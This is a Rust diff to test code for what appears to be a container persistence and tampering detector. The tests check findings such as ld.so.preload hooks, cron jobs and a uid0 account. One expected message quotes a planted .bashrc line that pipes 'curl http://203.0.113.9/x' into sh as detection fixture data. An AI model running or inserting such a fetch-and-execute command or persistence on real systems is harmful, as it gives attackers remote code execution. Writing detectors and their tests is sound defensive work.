@@ -119,10 +119,14 @@ fn container() -> ContainerFs {
     }
 }
 
-/// `(severity, kind, path)` of every finding, in output order.
+/// `(severity, kind, path)` of every finding, in output order; each severity one its id allows
+/// (as `docs/findings.md` lists it).
 fn summary(f: &[Finding]) -> Vec<(Severity, &str, &str)> {
+    for x in f {
+        assert!(x.kind.allows(x.severity), "{} with severity {}", x.kind, x.severity);
+    }
     f.iter()
-        .map(|f| (f.severity, f.kind.as_str(), f.path.as_str()))
+        .map(|f| (f.severity, f.kind.as_str(), f.path.as_deref().unwrap_or_default()))
         .collect()
 }
 
@@ -199,7 +203,11 @@ fn each_planted_change_is_a_finding() {
             (Severity::Low, "persistence-cron", "/etc/cron.d/old"),
         ]
     );
-    let by = |kind: &str, path: &str| f.iter().find(|x| x.kind == kind && x.path == path).unwrap();
+    let by = |kind: &str, path: &str| {
+        f.iter()
+            .find(|x| x.kind.as_str() == kind && x.path.as_deref() == Some(path))
+            .unwrap()
+    };
     let preload = by("persistence-ld-preload", "/etc/ld.so.preload");
     assert_eq!(
         preload.message,
@@ -265,12 +273,12 @@ fn without_image_contents_the_account_findings_fall_back() {
         accounts,
         [
             (Severity::Critical, "uid0-user", "/etc/passwd"),
-            (Severity::Medium, "account-file-changed", "/etc/passwd"),
+            (Severity::High, "account-file-changed", "/etc/passwd"),
         ]
     );
     assert_eq!(
         f.iter()
-            .find(|x| x.kind == "persistence-shell-profile")
+            .find(|x| x.kind == FindingId::PersistenceShellProfile)
             .unwrap()
             .message,
         "shell start-up file /root/.bashrc was changed; new lines: PS1='# ' | curl http://203.0.113.9/x | sh"
@@ -279,7 +287,7 @@ fn without_image_contents_the_account_findings_fall_back() {
 
 #[test]
 fn persistence_points_are_recognised() {
-    let kind = |p: &str| persistence(p).map(|x| x.0);
+    let kind = |p: &str| persistence(p).map(|x| x.0.as_str());
     assert_eq!(kind("/etc/ld.so.preload"), Some("persistence-ld-preload"));
     assert_eq!(kind("/var/spool/cron/crontabs/root"), Some("persistence-cron"));
     assert_eq!(kind("/etc/crontab"), Some("persistence-cron"));
